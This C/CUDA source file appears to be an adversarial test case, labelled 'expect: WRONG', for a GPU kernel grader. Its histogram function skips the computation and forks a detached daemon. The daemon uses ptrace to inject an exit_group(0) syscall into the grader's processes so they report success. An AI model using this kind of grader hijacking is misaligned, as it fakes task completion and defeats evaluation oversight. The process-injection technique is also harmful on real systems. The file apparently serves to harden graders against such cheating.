// expect: WRONG
// class: WRONG
// A daemon, which has left the process group and lost its parent, attaches to the device and to the
// other processes of the grader, and would have them exit with 0.
#include "10-histogram.h"
#include "../attacks/own.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void make_it_exit(int pid)
{
    user_regs_struct registers;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0))
        return;
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &registers);
    long code = ptrace(PTRACE_PEEKTEXT, pid, registers.rip, 0);
    ptrace(PTRACE_POKETEXT, pid, registers.rip, (code & ~0xffffl) | 0x050f); // syscall
    registers.rax = 231;                                                     // exit_group
    registers.rdi = 0;
    ptrace(PTRACE_SETREGS, pid, 0, &registers);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

extern "C" void histogram(int *bins, const unsigned char *in, int n)
{
    int pids[64], own = own_processes(pids, 64);
    (void)in, (void)n;
    cudaMemset(bins, 0, 256 * sizeof *bins);
    cudaDeviceSynchronize();
    if (fork())
        return;
    setsid();
    if (fork())
        _exit(0);
    while (own-- > 0)
        make_it_exit(pids[own]);
    _exit(0);
}
